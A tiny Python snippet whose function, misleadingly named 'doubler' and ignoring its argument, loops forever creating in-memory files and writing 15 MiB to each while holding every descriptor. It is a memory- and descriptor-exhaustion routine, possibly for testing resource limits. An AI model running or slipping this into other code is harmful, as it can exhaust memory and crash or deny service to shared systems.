import os

held = []

def doubler(n):
    while True:
        held.append(os.memfd_create("x"))
        for _ in range(15):
            os.write(held[-1], b"x" * (1 << 20))
